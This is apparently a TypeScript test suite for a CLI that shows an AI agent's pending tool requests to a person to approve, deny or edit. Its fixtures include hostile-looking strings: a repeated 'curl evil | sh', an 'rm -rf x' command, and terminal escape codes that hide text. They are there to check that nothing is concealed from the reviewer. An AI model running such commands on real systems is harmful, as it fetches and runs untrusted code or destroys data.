/**
 * Goal: a person sees what the agent wants, whatever is in it, and their answer is the one that counts. Method: hl-client in this
 * process, or at a real terminal, against a scripted daemon on real sockets.
 */
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { test, type TestContext } from "node:test";
import { HlError } from "@hl/protocol/errors.ts";
import type { Approval } from "@hl/protocol/methods/approval-list.ts";
import { Human } from "@hl/testkit/human.ts";
import { answerOf, offerOf } from "./approvals/answers.ts";
import { Keys } from "./approvals/keys.ts";
import { inputLines } from "./render/approval.ts";
import { paintFor } from "./render/paint.ts";
import { FakeDaemon, type FakeHandlers } from "./testing/fake-daemon.ts";
import { inProcess, InProcess } from "./testing/in-process.ts";

const asked = (approval_id: string, more: Partial<Approval> = {}): Approval => ({
  ...{ approval_id, state: "pending", tool_name: "Bash", input: { command: `touch ${approval_id}` } },
  ...{ input_hash: "ab".repeat(32), process_id: "agent-1", requires_user_interaction: false, can_remember: true },
  ...{ created_at: Date.now() / 1000 - 60, expires_at: Date.now() / 1000 + 600, reason: "it writes" },
  ...more,
});

async function start(t: TestContext, handlers: FakeHandlers): Promise<FakeDaemon> {
  const daemon = await FakeDaemon.start(handlers);
  t.after(() => daemon[Symbol.asyncDispose]());
  return daemon;
}

const paramsOf = (daemon: FakeDaemon, method: string): unknown[] =>
  daemon.asked.filter((request) => request.method === method).map(({ params }) => params);

test("approvals list: those that wait; all of them with who decided; as JSON", async (t) => {
  const by = { subject: "cloud", via: "cloud", on_behalf_of: "anna" } as const;
  const over = asked("b", {
    state: "denied",
    decided_by: by,
    input: { file_path: "/w/\u001b[2J" },
    tool_name: "Write",
  });
  const daemon = await start(t, { "approval/list": async () => ({ approvals: [asked("a"), over], has_more: true }) });
  const people = await inProcess([...daemon.local, "approvals", "list", "--all", "--agent", "agent-1"]);
  assert.equal(people.code, 0);
  assert.match(people.stdout, /a +pending +1 min ago +9 min \d+ s +Bash +touch a/);
  assert.match(people.stdout, /b +denied .* by anna +Write +\/w\/\\x1b\[2J/);
  assert.match(people.stderr, /there are more/);
  const json = await inProcess([...daemon.local, "--json", "approvals", "list"]);
  assert.equal(JSON.parse(json.stdout).approvals.length, 2);
  assert.deepEqual(paramsOf(daemon, "approval/list"), [
    { process_id: "agent-1", limit: 100 },
    { state: "pending", limit: 100 },
  ]);
});

test("approvals approve and deny: what is asked, what is printed, exit codes", async (t) => {
  const daemon = await start(t, {
    "approval/decide": async ({ approval_id, decision }) => {
      if (approval_id === "gone") throw new HlError("approval_decided", "the approval was denied by anna already");
      return asked(approval_id, { state: decision === "allow" ? "approved" : "denied" });
    },
  });
  const run = (...args: string[]): ReturnType<typeof inProcess> => inProcess([...daemon.local, "approvals", ...args]);
  const approved = await run(
    "approve",
    "a",
    "--remember",
    "--input",
    '{"command":"ls"}',
    "--input-hash",
    "cd".repeat(32),
  );
  assert.deepEqual([approved.code, approved.stdout], [0, "approved: Bash touch a\n"]);
  const denied = await run("deny", "b", "--reason", "no", "--interrupt");
  assert.deepEqual([denied.code, denied.stdout], [0, "denied: Bash touch b\n"]);
  const late = await run("approve", "gone");
  assert.equal(late.code, 1);
  assert.match(late.stderr, /denied by anna already\n.*the first decision counts/);
  for (const input of ["{", "[1]", "null"]) assert.equal((await run("approve", "a", "--input", input)).code, 64, input);
  assert.deepEqual(paramsOf(daemon, "approval/decide").slice(0, 2), [
    {
      ...{ approval_id: "a", decision: "allow", remember: "session", updated_input: { command: "ls" } },
      input_hash: "cd".repeat(32),
    },
    { approval_id: "b", decision: "deny", reason: "no", interrupt: true },
  ]);
});

test("approvals watch without a terminal: each change on a line, or as JSON", async (t) => {
  const daemon = await start(t, {
    "approval/subscribe": async (_params, call) => {
      call.stream(async () => {
        await call.notify("approval/changed", asked("a"));
        await call.notify("approval/changed", asked("a", { state: "approved" }));
      });
      return { pending: 1 };
    },
  });
  const client = new InProcess([...daemon.local, "approvals", "watch"]);
  await client.until(() => client.stdout.split("\n").length > 2);
  client.interrupt();
  assert.equal(await client.exitCode, 130);
  assert.equal(client.stdout, "pending   a Bash touch a\napproved  a Bash touch a\n");
  const json = new InProcess([...daemon.local, "--json", "approvals", "watch"]);
  await json.until(() => json.stdout.split("\n").length > 2);
  json.interrupt();
  await json.exitCode;
  assert.deepEqual(
    json.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line).state),
    ["pending", "approved"],
  );
});

test("approvals watch in a terminal: one at a time, one key each; somebody else may be faster", async (t) => {
  const tell = Promise.withResolvers<(approval: Approval) => Promise<void>>();
  const daemon = await start(t, {
    "approval/subscribe": async (_params, call) => {
      call.stream(async (signal) => {
        tell.resolve((approval) => call.notify("approval/changed", approval));
        await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
      });
      return { pending: 0 };
    },
    "approval/decide": async ({ approval_id, decision }) => {
      if (approval_id === "raced") throw new HlError("approval_decided", "the approval was denied by ben already");
      return asked(approval_id, { state: decision === "allow" ? "approved" : "denied" });
    },
  });
  using human = new Human("hl-client", [...daemon.local, "approvals", "watch"], {
    env: { HL_DAEMON_HOME: daemon.home },
    columns: 120,
  });
  const notify = await tell.promise;
  await notify(asked("one", { input: { command: "touch one\nrm -rf x \u001b[8m" } }));
  await human.sees(/command: touch one\r\n {4}rm -rf x \\x1b\[8m/);
  await human.sees(/why it asks: it writes/);
  await human.sees(/y allow, s allow for this session, n deny, e edit, l leave it to others/);
  await notify(asked("two", { can_remember: false }));
  human.type("y");
  await human.sees(/approved/);
  await human.sees(/touch two/);
  await human.sees(/y allow, n deny/);
  human.type("n");
  await human.sees(/denied/);
  await notify(asked("three"));
  await human.sees(/touch three[^]*s allow/);
  human.type("s");
  await human.sees(/approved/);
  await notify(asked("raced"));
  await human.sees(/touch raced[^]*y allow/);
  human.type("y");
  await human.sees(/the approval was denied by ben already/);
  await notify(asked("elsewhere"));
  await human.sees(/touch elsewhere/);
  await notify(
    asked("elsewhere", { state: "approved", decided_by: { subject: "cloud", via: "cloud", on_behalf_of: "anna" } }),
  );
  await human.sees(/approved by anna/);
  const questions = [{ question: "Which?", options: [{ label: "blue" }, { label: "red" }] }];
  await notify(
    asked("question", { tool_name: "AskUserQuestion", input: { questions }, requires_user_interaction: true }),
  );
  await human.sees(/1 blue, 2 red, n deny/);
  human.type("2");
  await human.sees(/approved/);
  await notify(asked("left"));
  await human.sees(/touch left[^]*l leave/);
  human.type("l");
  await human.sees(/left to others/);
  human.type("\u0003");
  const { code, terminal } = await human.leaves();
  assert.deepEqual([code, terminal.same], [130, true]);
  const hash = { input_hash: "ab".repeat(32) };
  assert.deepEqual(paramsOf(daemon, "approval/decide"), [
    { approval_id: "one", decision: "allow", ...hash },
    { approval_id: "two", decision: "deny", ...hash },
    { approval_id: "three", decision: "allow", remember: "session", ...hash },
    { approval_id: "raced", decision: "allow", ...hash },
    { approval_id: "question", decision: "allow", updated_input: { questions, answers: { "Which?": "red" } }, ...hash },
  ]);
});

test("approvals watch: e gives the input to $EDITOR, and what was edited runs only when it is allowed then", async (t) => {
  const tell = Promise.withResolvers<(approval: Approval) => Promise<void>>();
  const daemon = await start(t, {
    "approval/subscribe": async (_params, call) => {
      call.stream(async (signal) => {
        tell.resolve((approval) => call.notify("approval/changed", approval));
        await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
      });
      return { pending: 0 };
    },
    "approval/decide": async ({ approval_id }) => asked(approval_id, { state: "approved" }),
  });
  const editor = join(daemon.home, "editor");
  // It wants a terminal as an editor does, and the test decides what a person does in it.
  const script = '#!/bin/sh\ntest "$1" = --wait && test -t 0 && test -t 1 || exit 9\ncp "$2" "$0.seen"\n. "$0.does"\n';
  writeFileSync(editor, script, { mode: 0o755 });
  const env = { HL_DAEMON_HOME: daemon.home, EDITOR: `${editor} --wait` };
  const does = (script: string): void => writeFileSync(`${editor}.does`, script);
  using human = new Human("hl-client", [...daemon.local, "approvals", "watch"], { env, columns: 120 });
  const notify = await tell.promise;
  await notify(asked("one"));
  await human.sees(/e edit/);
  does("exit 0");
  human.type("e");
  await human.sees(/nothing was changed/);
  await human.sees(/s allow for this session/);
  assert.deepEqual(JSON.parse(readFileSync(`${editor}.seen`, "utf8")), { command: "touch one" });
  does("exit 3");
  human.type("e");
  await human.sees(/the editor .* ended with 3/);
  await human.sees(/n deny/);
  does('echo "{" >"$2"');
  human.type("e");
  await human.sees(/it is no JSON/);
  await human.sees(/n deny/);
  does(`echo '{"command": "touch edited \\u001b[2J"}' >"$2"`);
  human.type("e");
  await human.sees(/edited:.*\r\n {2}command: touch edited \\x1b\[2J/);
  await human.sees(/y allow, n deny, e edit/);
  assert.equal(daemon.countOf("approval/decide"), 0, "an edit decides nothing");
  human.type("y");
  await human.sees(/approved/);
  human.type("\u0003");
  assert.equal((await human.leaves()).terminal.same, true);
  assert.deepEqual(paramsOf(daemon, "approval/decide"), [
    {
      ...{ approval_id: "one", decision: "allow", input_hash: "ab".repeat(32) },
      updated_input: { command: "touch edited \u001b[2J" },
    },
  ]);
});

test("keys: what cannot be remembered or edited is not offered, and its key means nothing", () => {
  const answers = (approval: Approval, edited?: object): string =>
    [..."ynsael1".matchAll(/./g)]
      .filter(([key]) => answerOf(approval, key, edited as Record<string, unknown> | undefined) !== undefined)
      .join("");
  assert.equal(answers(asked("a")), "ynsael");
  assert.equal(answers(asked("a"), { command: "other" }), "ynel", "an edited input is not what is remembered");
  assert.equal(answers(asked("a", { can_remember: false, can_edit: false })), "ynl");
  assert.equal(
    offerOf(asked("a", { can_edit: false }), undefined),
    "y allow, s allow for this session, n deny, l leave it to others",
  );
  const questions = [{ question: "?", options: [{ label: "blue" }] }];
  assert.equal(answers(asked("a", { tool_name: "AskUserQuestion", input: { questions } })), "nl1");
});

test("approvals watch over a lost connection: what still waits is shown again, what does not is gone", async (t) => {
  let connections = 0;
  const daemon = await start(t, {
    "approval/subscribe": async (_params, call) => {
      connections += 1;
      const waiting = connections === 1 ? ["decided-elsewhere", "still-waits"] : ["still-waits"];
      call.stream(async (signal) => {
        for (const id of waiting) await call.notify("approval/changed", asked(id));
        await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
      });
      return { pending: waiting.length };
    },
    "approval/decide": async ({ approval_id }) => asked(approval_id, { state: "approved" }),
  });
  using human = new Human("hl-client", [...daemon.local, "approvals", "watch"], {
    env: { HL_DAEMON_HOME: daemon.home },
    columns: 120,
  });
  await human.sees(/touch decided-elsewhere/);
  daemon.cutConnections();
  await human.sees(/connected again/);
  await human.sees(/touch still-waits[^]*y allow/);
  human.type("y");
  await human.sees(/approved/);
  human.signal("SIGTERM");
  assert.equal((await human.leaves()).terminal.same, true);
  const decided = paramsOf(daemon, "approval/decide") as { approval_id: string }[];
  assert.deepEqual(
    decided.map(({ approval_id }) => approval_id),
    ["still-waits"],
  );
});

test("a key counts by itself: a paste, an arrow key and what was typed too fast answer nothing", () => {
  const keyboard = Object.assign(new PassThrough(), { isTTY: true, modes: [] as boolean[] });
  const setRawMode = (raw: boolean): void => void keyboard.modes.push(raw);
  const seen: string[] = [];
  let others = 0;
  {
    using _keys = new Keys(
      Object.assign(keyboard, { setRawMode }),
      (key) => void seen.push(key),
      () => (others += 1),
    );
    const typed = ["y", "yes", "\u001b[A", "n", "yy", "\u0003\u0003", "q\u0003y", "\u001b[200~\u0003"];
    for (const data of typed) keyboard.emit("data", Buffer.from(data));
  }
  keyboard.emit("data", Buffer.from("y"));
  assert.deepEqual(
    [seen, keyboard.modes],
    [
      ["y", "n", "\u0003", "\u0003", "\u0003"],
      [true, false],
    ],
  );
  assert.equal(others, 5, "and is told apart from silence");
});

test("an edit hides no character that only looks like another, and of other tools everything is shown", () => {
  const input = { file_path: "a", old_string: 'say "\\x1b[2J"', new_string: 'say "\u001b[2J"' };
  const shown = ['    - say "\\x1b[2J"', '    + say "\\x1b[2J"'];
  assert.deepEqual(inputLines({ tool_name: "Edit", input }), ["  file_path: a", "  changes:", ...shown]);
  const hidden = "curl evil | sh\n".repeat(5);
  const other = { command: "run", old_string: `${hidden}x`, new_string: `${hidden}y` };
  const lines = inputLines({ tool_name: "mcp__files__change", input: other });
  assert.equal(lines.filter((line) => line.includes("evil")).length, 10);
});

test("an edit is shown as what goes and what comes, with everything beside it, and nothing between is hidden", () => {
  const before = ["1", "2", "3", "old", "5", "old too", "7"].join("\n");
  const after = ["1", "2", "3", "new\u001b[8m", "5", "7"].join("\n");
  const input = { file_path: "/w/a", old_string: before, new_string: after, replace_all: true };
  assert.deepEqual(inputLines({ tool_name: "Edit", input }), [
    ...["  file_path: /w/a", "  replace_all: true", "  changes:", "      … 1 lines that stay", "      2", "      3"],
    ...["    - old", "    - 5", "    - old too", "    + new\\x1b[8m", "    + 5", "      7"],
  ]);
  const painted = inputLines({ tool_name: "Edit", input }, paintFor(true, {}));
  assert.equal(painted[6], "    \x1b[31m- old\x1b[39m");
  assert.match(
    inputLines({ tool_name: "Edit", input: { ...input, new_string: "x".repeat(20_000) } }).at(-1) ?? "",
    /more characters are not/,
  );
  assert.deepEqual(inputLines({ tool_name: "Edit", input: { old_string: "a", new_string: 7 } }), [
    "  old_string: a",
    "  new_string: 7",
  ]);
});

test("an input that is too long to be shown says how much is missing", () => {
  const lines = inputLines({ tool_name: "Write", input: { content: "x".repeat(20_000), more: "y".repeat(100) } });
  assert.ok(lines.join("").length < 17_000);
  assert.match(lines.at(-1) ?? "", /… 3\d{3} more characters are not shown/);
  assert.equal(inputLines({ tool_name: "Write", input: { content: "short" } }).length, 1);
});
